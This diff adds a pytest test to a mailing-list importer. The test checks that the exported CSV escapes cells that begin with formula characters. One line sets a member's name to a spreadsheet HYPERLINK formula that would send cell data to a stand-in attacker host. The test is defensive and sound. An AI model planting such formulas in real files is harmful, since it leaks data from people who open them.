@@ -360,3 +360,20 @@ def test_a_member_marked_not_opted_in_opts_in_by_signing_up(
     with db.session() as session:
         assert count(session, "all", shape) == 1
         assert members.show(session, "ann@example.org").status_source == "signup"
+
+
+def test_the_kept_file_is_spreadsheet_safe(db: Database, shape: Shape, tmp_path: Path) -> None:
+    from mailer.audience.choices import record_member_choice
+
+    path = tmp_path / "crm.csv"
+    path.write_text("Email,Name,Opted In\nann@example.org,Ann,Yes\n", encoding="utf-8")
+    import_file(db, shape, path)
+    with db.session() as session:
+        ann = session.scalars(select(Member).where(Member.email == "ann@example.org")).one()
+        ann.name = '=HYPERLINK("http://evil.example/?d="&A1,"x")'  # as a member could type it
+        record_member_choice(session, ann.id, ["name"], source="preferences")
+    path.write_text("Email,Name,Opted In\nann@example.org,+Ann,Yes\n", encoding="utf-8")
+    assert import_file(db, shape, path).kept == 1
+    with (tmp_path / "crm.kept.csv").open(encoding="utf-8", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert "'+Ann" in cells and not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
